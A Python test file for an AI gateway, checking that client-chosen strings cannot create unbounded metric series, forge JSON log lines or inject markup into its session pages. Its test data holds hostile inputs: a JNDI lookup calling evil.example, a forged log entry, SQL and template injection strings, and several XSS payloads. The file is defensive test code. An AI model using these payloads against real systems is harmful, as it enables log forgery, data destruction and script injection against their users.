"""Tests of strings that a client chooses, such as model names, paths and user agents.

Such strings must not create metric series, and must not break the format of log lines and web pages.
"""

import asyncio
import json
import re

import pytest

from tests.helpers.gateway import HAIKU, NOVA, bedrock, gate
from tests.helpers.hostile_http import (
    CHAT,
    CONVERSE,
    CONVERSE_PATH,
    connected,
    crashes,
    post,
    request,
)

DISTINCT = 2000
TOGETHER = 8
SERIES = 75
"""Maximum number of metric series that the test's calls may add, whatever names the calls have. A histogram counts as
one series.

Some series are allowed, because the first refused call or unknown route adds a series for its status."""
INJECTIONS = [
    "x\ny", 'x\r\n{"event":"call.finished","identity":"bob"}', 'x","event":"forged","y":"', "x\x1b[2J\x1b[31m",
    "x\x1b]0;title\x07", "x\x00y", "x\x85y", "x\u2028y", "x\u202ey", "x\ud800", "x\\", "x\\u000a", '"', "'", "{}", "[1,2",
    "%0a%0d", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "'; DROP TABLE calls; --", "{{7*7}}",
    "é" * 3000, "\U0001f600", "\ufeff", "x" * 20_000,
]  # fmt: skip


@pytest.fixture
async def gated(tmp_path, bedrock_sim):
    async with gate(tmp_path, {"b": bedrock(bedrock_sim.url, models=(HAIKU, NOVA))}) as running:
        yield running


PLUGINS = "irisgate_plugin_"
"""Prefix of the metric series of plugins' hooks. The test does not count them, because clients cannot add hooks."""


async def series(gated):
    lines = (await (await gated.get("/metrics")).text()).splitlines()
    return [line for line in lines if not line.startswith("#")]


async def test_metrics_do_not_grow_with_what_clients_make_up(gated, bedrock_sim):
    before = await series(gated)
    kinds = (
        lambda made: post("/v1/chat/completions", {**CHAT, "model": made}),
        lambda made: post(f"/bedrock/model/{made}/converse", CONVERSE, f"User-Agent: {made}/1.0"),
        lambda made: post(CONVERSE_PATH, CONVERSE, f"User-Agent: {made}/1.0", f"X-Session-Id: {made}"),
        lambda made: request(f"GET /nowhere/{made}?{made}={made} HTTP/1.1", f"{made}: {made}"),
        lambda made: request(f"GET /api/sessions/{made} HTTP/1.1", f"Origin: http://{made}"),
        lambda made: request("GET /api/whoami HTTP/1.1", host=made),
        lambda made: post("/v1/messages", {**CHAT, made: made, "model": HAIKU, "max_tokens": 5}),
    )

    async def make_up(first):
        raw = await connected(gated)
        for number in range(first, DISTINCT, TOGETHER):
            raw.writer.write(kinds[number % len(kinds)](f"made-up-{number}"))
            assert (await raw.reply())[0] < 500

    await asyncio.gather(*(make_up(first) for first in range(TOGETHER)))
    after = await series(gated)
    assert len(after) - len(before) <= SERIES * 5
    assert [line for line in after if "made-up" in line] == []
    names = {re.sub(r'le="[^"]*",?', "", line.rpartition(" ")[0]) for line in after if not line.startswith(PLUGINS)}
    assert len(names - {line.rpartition(" ")[0] for line in before}) <= SERIES


def lines_of(gated):
    """Return all lines of the log. Check that each of them is a JSON object."""
    data = gated.lines.data
    assert data.endswith(b"\n")
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", data)
    entries = [json.loads(line) for line in data.split(b"\n")[:-1]]
    assert all(isinstance(entry, dict) and {"timestamp", "level", "event"} <= entry.keys() for entry in entries)
    return entries


async def test_no_string_of_a_client_makes_a_line_of_its_own_in_the_log(gated):
    await gated.log_is_written()
    begun = len(lines_of(gated))  # at the start, a gateway names the installed packages of plugins
    requests = 0
    for text in INJECTIONS:
        clean = text.encode("utf-8", "surrogatepass").replace(b"\r", b"").replace(b"\n", b"").replace(b"\0", b"")
        quoted = "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))[:9000]
        for data in (
            post("/v1/chat/completions", {**CHAT, "model": text}),
            post("/v1/chat/completions", {**CHAT, text: text}),
            post("/v1/chat/completions", {**CHAT, "user": text, "metadata": {"user_id": text}, "prompt_cache_key": text}),
            post(f"/bedrock/model/{quoted}/converse", CONVERSE),
            post(CONVERSE_PATH, CONVERSE, b"User-Agent: " + clean[:9000], b"X-Session-Id: " + clean[:9000]),
            post("/v1/messages", {**CHAT, "max_tokens": 5}, b"anthropic-beta: " + clean[:9000]),
            request(f"GET /{quoted}?{quoted[:3000]} HTTP/1.1", b"Referer: " + clean[:9000]),
            request(f"GET /api/sessions/{quoted} HTTP/1.1"),
            request(f"GET /api/sessions?identity={quoted}&cursor={quoted}&limit={quoted[:99]} HTTP/1.1"),
            request(f"GET /api/explain?model={quoted}&as={quoted} HTTP/1.1"),
        ):  # fmt: skip
            raw = await connected(gated)
            raw.writer.write(data)
            status, _, body = await raw.reply()
            assert status < 500, (text[:30], data[:200], body[:200])
            await raw.close()
            requests += 1
    assert requests == 10 * len(INJECTIONS)
    await gated.running.gateway.follower.flush()
    await gated.log_is_written()
    entries = [entry for entry in lines_of(gated)[begun:] if not entry["event"].startswith("test.mark")]
    assert {entry["event"] for entry in entries} == {"call.finished", "http.error", "request.no_route"}
    assert [entry for entry in entries if entry.get("identity", "(loopback)") not in {"(loopback)", ""}] == []
    assert gated.lines.entries("call.crashed") == []


async def test_what_a_client_made_up_stands_on_pages_as_text(gated):
    marks = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{77777*77777}}", "javascript:alert(1)")
    for mark in marks:
        await gated.post("/v1/chat/completions", {**CHAT, "model": mark, mark: mark})
        await gated.post("/v1/chat/completions", {**CHAT, mark: mark}, headers={"X-Session-Id": "known"})
    assert await gated.sessions()
    paths = ["/ui/sessions", "/ui/sessions/known", f"/ui/sessions/{'%3Cscript%3Ealert(1)%3C%2Fscript%3E'}"]
    paths += [
        "/ui/sessions?user=%3Cscript%3E",
        "/ui/sessions?cursor=%22%3E%3Cimg",
        "/ui/sessions?limit=%3Cscript%3E",
    ]
    for path in paths:
        reply = await gated.get(path)
        page = await reply.text()
        assert reply.status < 500, path
        assert page.count("<script") == page.count('<script type="module" nonce="') == 1, path
        assert "<img src=x" not in page, path
        assert str(77777 * 77777) not in page, path
    assert crashes(gated) == []
